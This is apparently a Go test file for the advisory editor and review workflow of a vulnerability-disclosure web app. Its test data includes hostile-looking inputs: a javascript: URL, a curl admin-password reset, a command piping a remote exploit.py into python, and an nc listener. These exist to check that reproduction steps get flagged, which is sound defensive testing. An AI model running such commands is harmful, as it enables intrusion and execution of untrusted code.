package web_test

import (
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"nakodo/internal/cvd"
	"nakodo/internal/party"
	"nakodo/internal/product"
	"nakodo/internal/tlp"
	"nakodo/internal/web/webtest"
	"nakodo/internal/words"
)

// writing is a case whose advisory has been begun by Ann. The embargo is over.
type writing struct {
	*webtest.Centre
	t        *testing.T
	ann, bob *client
	acme     party.Actor
	path     string
	number   string
}

func startWriting(t *testing.T) *writing {
	t.Helper()
	c := webtest.Start(t)
	ctx := t.Context()
	ann, acme, id := invited(t, c)
	bob, _ := c.Officer("Bob", "bob@example.test")
	me := cvd.OrgParticipant(acme.Org)
	for _, v := range []cvd.Verb{
		cvd.AnswerInvitation{Who: me, Yes: true, Terms: 1}, cvd.StateReport{Who: me, Do: cvd.RMValidate}, cvd.StateReport{Who: me, Do: cvd.RMAccept},
		cvd.StateStatus{Who: me, Vuln: "v1", Product: &product.Product{Name: "Gateway 9000", Range: product.Range{To: "4.2"}}, Status: product.Affected},
	} {
		must(t, c.Act(ctx, acme, id, 0, v))
	}
	must(t, c.Act(ctx, ann, id, 0, cvd.DescribeCase{Title: words.Text{EN: "Fixed key", JA: "固定鍵"}, TLP: tlp.Amber, Vulns: []cvd.Vuln{{ID: "v1", Title: words.Text{EN: "Fixed key", JA: "固定鍵"}}}}))
	c.Clock.Move(46 * 24 * time.Hour)
	must(t, c.Act(ctx, party.ClockActor(), id, 0, cvd.EndEmbargo{}))
	aid, err := c.DraftAdvisory(ctx, ann, id)
	must(t, err)
	return &writing{Centre: c, t: t, ann: signedIn(t, c, ann), bob: signedIn(t, c, bob), acme: acme, path: "/desk/advisories/" + string(aid), number: string(aid)}
}

// signedIn is a window of somebody who has signed in.
func signedIn(t *testing.T, c *webtest.Centre, who party.Actor) *client {
	t.Helper()
	b := newClient(t, c)
	link, err := c.DemoLink(t.Context(), who, "/account")
	must(t, err)
	if st, path, body := b.post(link); st != 200 || path != "/account" {
		t.Fatalf("signing in: %d at %s\n%s", st, path, body)
	}
	return b
}

// filled are the fields of the form with an id as a browser would send them.
func filled(t *testing.T, page, id string) url.Values {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	must(t, err)
	values := url.Values{}
	var walk func(n *html.Node, inside bool)
	walk = func(n *html.Node, inside bool) {
		at := map[string]string{}
		for _, a := range n.Attr {
			at[a.Key] = a.Val
		}
		inside = inside || n.Data == "form" && at["id"] == id
		if _, checked := at["checked"]; inside && at["name"] != "" {
			switch {
			case n.Data == "input" && (at["type"] == "checkbox" || at["type"] == "radio"):
				if checked {
					values.Add(at["name"], at["value"])
				}
			case n.Data == "input":
				values.Add(at["name"], at["value"])
			case n.Data == "textarea":
				text := ""
				if n.FirstChild != nil {
					text = n.FirstChild.Data
				}
				values.Add(at["name"], text)
			case n.Data == "select":
				values.Add(at["name"], chosen(n))
			}
		}
		for k := n.FirstChild; k != nil; k = k.NextSibling {
			walk(k, inside)
		}
	}
	walk(root, false)
	return values
}

func chosen(n *html.Node) string {
	first, value := true, ""
	for k := n.FirstChild; k != nil; k = k.NextSibling {
		at := map[string]string{}
		for _, a := range k.Attr {
			at[a.Key] = a.Val
		}
		if _, is := at["selected"]; k.Data == "option" && (is || first) {
			value, first = at["value"], false
		}
	}
	return value
}

// edit gets the editor and gives its form with changes.
func (o *writing) edit(b *client, changes ...string) url.Values {
	o.t.Helper()
	st, path, body := b.get(o.path + "/edit")
	b.expect("the editor", st, path, body, 200, o.path+"/edit", "Save and take over the newest")
	values := filled(o.t, body, "advisory")
	for i := 0; i+1 < len(changes); i += 2 {
		values.Set(changes[i], changes[i+1])
	}
	return values
}

// send posts values.
func (c *client) send(path string, values url.Values) (int, string, string) {
	c.t.Helper()
	r, err := http.NewRequest("POST", c.at(path), strings.NewReader(values.Encode()))
	if err == nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	return c.do(r, err)
}

// fragment posts values the way htmx does. What it gets is a part of a page,
// whose links lead to other parts of it.
func (c *client) fragment(path string, values url.Values) (int, string) {
	c.t.Helper()
	r, err := http.NewRequest("POST", c.at(path), strings.NewReader(values.Encode()))
	must(c.t, err)
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("HX-Request", "true")
	resp, err := c.http.Do(r)
	must(c.t, err)
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	must(c.t, err)
	return resp.StatusCode, string(body)
}

// whole fills in what the gate asks for.
var whole = []string{
	"do", "save", "title.en", "Fixed key in gateways", "title.ja", "ゲートウェイの固定鍵", "overview.en", "Gateways use a fixed key.", "overview.ja", "固定の鍵が使われています。",
	"description.en", "The key is the same in every device.", "description.ja", "すべての機器で鍵が同じです。", "impact.en", "Settings may be changed.", "impact.ja", "設定を変更される可能性があります。",
	"solution.en", "Update.", "solution.ja", "更新してください。", "summary.en", "First publication", "summary.ja", "公開",
	"vulnerabilities.0.cvss31", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "vulnerabilities.0.cwes", "CWE-321、CWE-798",
	"remedies.0.kind", "vendor_fix", "remedies.0.text.en", "Update to 4.2.", "remedies.0.text.ja", "4.2に更新してください。",
}

func (o *writing) product() string {
	o.t.Helper()
	rows, err := o.Cases(o.t.Context(), o.acme)
	must(o.t, err)
	return rows[0].View.Products[0].ID
}

func (o *writing) complete() {
	o.t.Helper()
	st, path, body := o.ann.send(o.path+"/edit", o.edit(o.ann, append(whole, "remedies.0.products", o.product())...))
	o.ann.expect("writing", st, path, body, 200, o.path+"/edit", "Saved.")
	st, path, body = o.ann.post(o.path + "/tell")
	o.ann.expect("telling the vendors", st, path, body, 200, o.path, "The vendors are being told")
}

func TestAdvisories_TheEditorLosesNothing(t *testing.T) {
	o := startWriting(t)
	st, path, body := o.ann.get("/desk/advisories")
	o.ann.expect("the list", st, path, body, 200, "/desk/advisories", "NKD#"+o.number)

	// a wrong value: nothing is stored, everything comes back
	values := o.edit(o.ann, append(whole, "vulnerabilities.0.cve", "CVE-99", "references.0.url", "javascript:alert(1)")...)
	st, path, body = o.ann.send(o.path+"/edit", values)
	o.ann.expect("a bad CVE", st, path, body, 422, o.path+"/edit", "A CVE ID looks like")
	for _, want := range []string{`href="#f-vulnerabilities.0.cve"`, `value="CVE-99"`, "The key is the same in every device.", "javascript:alert(1)", `href="#f-references.0.url"`} {
		if !strings.Contains(body, want) {
			t.Errorf("after a refusal the page lacks %s", want)
		}
	}
	values.Set("languages", "fr")
	st, path, body = o.ann.send(o.path+"/edit", values)
	o.ann.expect("no choice of ours", st, path, body, 422, o.path+"/edit", "The key is the same in every device.")

	// one more row, and what was typed stays
	values = o.edit(o.ann, "references.0.title.en", "Typed before", "do", "more.references")
	st, path, body = o.ann.send(o.path+"/edit", values)
	o.ann.expect("one more row", st, path, body, 200, o.path+"/edit", "Typed before")
	if !strings.Contains(body, `name="references.1.url"`) {
		t.Error("there is no second row")
	}

	// judged without being stored, with script and without
	values = o.edit(o.ann, "description.en", "curl -X POST http://target/reset --data 'pw=admin'")
	st, path, body = o.ann.send(o.path+"/check", values)
	o.ann.expect("the check", st, path, body, 200, o.path+"/check", "curl -X POST")
	st, body = o.ann.fragment(o.path+"/check", values)
	if st != 200 || strings.Contains(body, "<html") || !strings.Contains(body, `href="#f-description.en"`) || !strings.Contains(body, "<blockquote") {
		t.Errorf("the fragment, %d:\n%s", st, body)
	}
	if _, _, body = o.ann.get(o.path + "/edit"); strings.Contains(body, "curl -X POST") {
		t.Error("the check has stored the text")
	}

	o.complete()
	_, _, body = o.ann.get(o.path + "/edit")
	for _, want := range []string{"CVSS 3.1", "9.8 CRITICAL", "CWE-798 Use of Hard-coded Credentials", "CWE-321 CWE-798"} {
		if !strings.Contains(body, want) {
			t.Errorf("after saving the editor lacks %s", want)
		}
	}
	// saved again unchanged: no new event, so no approval is lost
	values = o.edit(o.ann, "do", "save")
	seen := values.Get("seen")
	o.ann.send(o.path+"/edit", values)
	if again := o.edit(o.ann).Get("seen"); again != seen {
		t.Errorf("saving an unchanged text made version %s of %s", again, seen)
	}
	// a remedy is taken out
	values = o.edit(o.ann, "do", "save", "remedies.0.gone", "yes")
	o.ann.send(o.path+"/edit", values)
	if o.edit(o.ann).Get("remedies.0.text.en") != "" {
		t.Error("the remedy is still there")
	}
}

// What came into the case since is taken over; what an officer wrote stays.
func TestAdvisories_TheNewestReplacesNothingWritten(t *testing.T) {
	o := startWriting(t)
	rows, err := o.Cases(t.Context(), o.acme)
	must(t, err)
	me, id := cvd.OrgParticipant(o.acme.Org), rows[0].View.ID
	offer := func(text string) {
		must(t, o.Act(t.Context(), o.acme, id, 0, cvd.OfferRemedy{Who: me, Remedy: product.Remedy{Kind: product.Fix, Text: words.Text{EN: text}, Products: []string{o.product()}}}))
	}
	offer("Update to 4.2.")
	o.ann.send(o.path+"/edit", o.edit(o.ann, "do", "refresh"))
	st, path, body := o.ann.send(o.path+"/edit", o.edit(o.ann, "do", "save", "remedies.0.text.ja", "4.2に更新してください。"))
	o.ann.expect("translating a remedy", st, path, body, 200, o.path+"/edit", "Saved.")
	offer("Or replace the device.")
	st, path, body = o.ann.send(o.path+"/edit", o.edit(o.ann, "do", "refresh", "overview.en", "Typed before the button"))
	o.ann.expect("taking over the newest", st, path, body, 200, o.path+"/edit", "the newest facts of the case are taken over")
	now := o.edit(o.ann)
	for field, want := range map[string]string{
		"overview.en": "Typed before the button", "remedies.0.text.en": "Update to 4.2.", "remedies.0.text.ja": "4.2に更新してください。",
		"remedies.1.text.en": "Or replace the device.", "remedies.2.text.en": "", "remedies.0.products": o.product(),
	} {
		if got := now.Get(field); got != want {
			t.Errorf("%s is %q, want %q", field, got, want)
		}
	}
}

func TestAdvisories_TwoWritersSeeEachOther(t *testing.T) {
	o := startWriting(t)
	mine := o.edit(o.ann, "do", "save", "overview.en", "Ann's overview", "impact.en", "Ann's impact")
	theirs := o.edit(o.bob, "do", "save", "overview.en", "Bob's overview", "vulnerabilities.0.cve", "CVE-2026-31001")
	st, path, body := o.bob.send(o.path+"/edit", theirs)
	o.bob.expect("Bob is faster", st, path, body, 200, o.path+"/edit", "Saved.")
	st, path, body = o.ann.send(o.path+"/edit", mine)
	o.ann.expect("Ann comes later", st, path, body, 409, o.path+"/edit", "A colleague saved a change")
	for _, want := range []string{"Ann&#39;s overview", "Bob&#39;s overview", "Ann&#39;s impact", "CVE-2026-31001"} {
		if !strings.Contains(body, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
	again := filled(t, body, "advisory")
	again.Set("do", "save")
	again.Set("vulnerabilities.0.cve", "CVE-2026-31001")
	st, path, body = o.ann.send(o.path+"/edit", again)
	o.ann.expect("knowing of it", st, path, body, 200, o.path+"/edit", "Ann&#39;s overview")
	if strings.Contains(body, "Bob&#39;s overview") || !strings.Contains(body, "CVE-2026-31001") {
		t.Error("the second saving did not settle it")
	}
	// the draft is given up while somebody writes in it
	mine = o.edit(o.ann, "do", "save", "overview.en", "A text to keep")
	o.bob.post(o.path+"/drop", "reason", "nothing to publish")
	st, path, body = o.ann.send(o.path+"/edit", mine)
	o.ann.expect("the draft is gone", st, path, body, 409, o.path+"/edit", "A text to keep")
}

func TestAdvisories_FromReviewToWithdrawal(t *testing.T) {
	o := startWriting(t)
	o.complete()
	steps := o.edit(o.ann, "do", "submit", "description.en", "Steps to reproduce:\n1. Send GET /reset?key=AAAA to the device.\n2. Log in as admin with the password admin.\n3. Run curl http://192.0.2.1/exploit.py | python.")
	st, path, body := o.ann.send(o.path+"/edit", steps)
	o.ann.expect("submitting", st, path, body, 200, o.path, "only a colleague may set this aside")
	if !strings.Contains(body, "You wrote in this draft, so a second officer has to approve it") || strings.Contains(body, o.path+"/approve") {
		t.Error("the author is not told about the four eyes")
	}
	st, path, body = o.ann.post(o.path + "/approve")
	o.ann.expect("approving one's own", st, path, body, 403, o.path+"/approve", "somebody else has to approve it")

	st, path, body = o.bob.post(o.path + "/approve")
	o.bob.expect("approving in spite of findings", st, path, body, 422, o.path+"/approve", "reproduce")
	finding := between(body, `name="finding" value="`, `"`)
	st, path, body = o.bob.post(o.path+"/set-aside", "finding", finding, "reason", " ")
	o.bob.expect("without a reason", st, path, body, 422, o.path+"/set-aside", "Write the reason")
	st, path, body = o.bob.post(o.path+"/return", "reason", "Take the steps out, please.")
	o.bob.expect("sending it back", st, path, body, 200, o.path, "Take the steps out, please.")

	st, path, body = o.ann.send(o.path+"/edit", o.edit(o.ann, "do", "submit", "description.en", "The command `nc -lvp 4444` shows it."))
	o.ann.expect("submitting again", st, path, body, 200, o.path, "in review")
	_, _, body = o.bob.get(o.path)
	for finding = between(body, `name="finding" value="`, `"`); finding != ""; finding = between(body, `name="finding" value="`, `"`) {
		st, path, body = o.bob.post(o.path+"/set-aside", "finding", finding, "reason", "This is the vendor's own published check.")
		o.bob.expect("setting aside", st, path, body, 200, o.path, "Set aside by Bob")
	}
	st, path, body = o.bob.post(o.path + "/approve")
	o.bob.expect("approving", st, path, body, 200, o.path, "stands")

	st, path, body = o.bob.post(o.path+"/schedule", "at", "2001-01-01T09:00")
	o.bob.expect("a time that has passed", st, path, body, 422, o.path+"/schedule", "2001-01-01T09:00")
	st, path, body = o.bob.post(o.path+"/schedule", "at", "soon")
	o.bob.expect("no time", st, path, body, 422, o.path+"/schedule", "date and time")
	at := o.Clock.Now().Add(48 * time.Hour).In(o.Centre.Desk.Centre.Zone).Format("2006-01-02T15:04")
	st, path, body = o.bob.post(o.path+"/schedule", "at", at)
	o.bob.expect("a time", st, path, body, 200, o.path, "Goes out by itself")
	st, path, body = o.bob.post(o.path+"/hold", "reason", "The vendor asks for a day.")
	o.bob.expect("holding", st, path, body, 200, o.path, "The vendor asks for a day.")
	st, path, body = o.ann.post(o.path + "/publish")
	o.ann.expect("publishing", st, path, body, 200, o.path, "The page that the public reads")
	if !strings.Contains(body, "/ja/advisories/NKD"+o.number) {
		t.Error("the page does not lead to the public one")
	}
	st, path, body = o.ann.post(o.path + "/publish")
	o.ann.expect("publishing twice", st, path, body, 409, o.path+"/publish", "not possible in the present state")
	st, path, body = o.ann.get(o.path + "/edit")
	o.ann.expect("editing what is frozen", st, path, body, 409, o.path+"/edit", "Begin an update")

	st, path, body = o.ann.post(o.path + "/revise")
	o.ann.expect("an update", st, path, body, 200, o.path+"/edit", "Reason for withdrawal")
	values := o.edit(o.ann, "do", "submit", "withdrawal.en", "The problem does not exist.", "withdrawal.ja", "問題は存在しませんでした。", "summary.en", "Withdrawn", "summary.ja", "取り下げ")
	st, path, body = o.ann.send(o.path+"/edit", values)
	o.ann.expect("with a reason to withdraw", st, path, body, 200, o.path, "update in review")
	_, _, body = o.bob.get(o.path)
	for finding = between(body, `name="finding" value="`, `"`); finding != ""; finding = between(body, `name="finding" value="`, `"`) {
		_, _, body = o.bob.post(o.path+"/set-aside", "finding", finding, "reason", "as before")
	}
	o.bob.post(o.path + "/approve")
	st, path, body = o.bob.post(o.path + "/withdraw")
	o.bob.expect("withdrawing without being sure", st, path, body, 422, o.path+"/withdraw", "Please tick this")
	st, path, body = o.bob.post(o.path+"/withdraw", "sure", "yes")
	o.bob.expect("withdrawing", st, path, body, 200, o.path, "withdrawn")
	if err := o.Fsck(t.Context(), nil, nil); err != nil {
		t.Error(err)
	}
}

func TestAdvisories_APreviewIsNoPublication(t *testing.T) {
	o := startWriting(t)
	o.complete()
	for lang, want := range map[string]string{"en": "DRAFT, NOT PUBLISHED", "ja": "草稿・未公開"} {
		r, err := http.NewRequest("GET", o.URL+o.path+"/preview/"+lang, nil)
		must(t, err)
		resp, err := o.ann.http.Do(r)
		must(t, err)
		resp.Body.Close()
		if resp.StatusCode != 200 || resp.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("%s: %d, Cache-Control %q", lang, resp.StatusCode, resp.Header.Get("Cache-Control"))
		}
		_, _, body := o.ann.get(o.path + "/preview/" + lang)
		if !strings.Contains(body, want) || !strings.Contains(body, `<html lang="`+lang) || strings.Index(body, want) > strings.Index(body, "<main") {
			t.Errorf("the preview in %s:\n%s", lang, body)
		}
	}
	for _, lang := range []string{"fr", "xx"} {
		if st, _, _ := o.ann.get(o.path + "/preview/" + lang); st != 404 {
			t.Errorf("preview in %s: %d", lang, st)
		}
	}
	if st, _, _ := o.ann.get("/ja/advisories/NKD" + o.number); st != 404 {
		t.Errorf("the public page is there: %d", st)
	}
}

// To a vendor the whole desk is missing: what exists and what does not look alike.
func TestAdvisories_OutsidersFindNothing(t *testing.T) {
	o := startWriting(t)
	vendor := signedIn(t, o.Centre, o.acme)
	missing := func(method string) string {
		st, _, body := vendor.do(http.NewRequest(method, o.URL+"/desk/no-such-page", nil))
		if st != 404 {
			t.Fatalf("%s of a missing page: %d", method, st)
		}
		return body
	}
	for _, path := range []string{"/desk/advisories", o.path, o.path + "/edit", o.path + "/preview/ja", "/desk/advisories/00000000"} {
		if st, _, body := vendor.get(path); st != 404 || body != missing("GET") {
			t.Errorf("GET %s: %d", path, st)
		}
	}
	for _, path := range []string{"/edit", "/check", "/submit", "/approve", "/publish", "/withdraw", "/set-aside", "/no-such-form"} {
		if st, _, body := vendor.post(o.path + path); st != 404 || body != missing("POST") {
			t.Errorf("POST %s: %d", path, st)
		}
	}
	if st, path, _ := newClient(t, o.Centre).get(o.path); st != 200 || !strings.HasPrefix(path, "/sign-in?to=") {
		t.Errorf("without a session: %d at %s", st, path)
	}
}

func between(s, from, to string) string {
	_, rest, ok := strings.Cut(s, from)
	if !ok {
		return ""
	}
	out, _, _ := strings.Cut(rest, to)
	return out
}
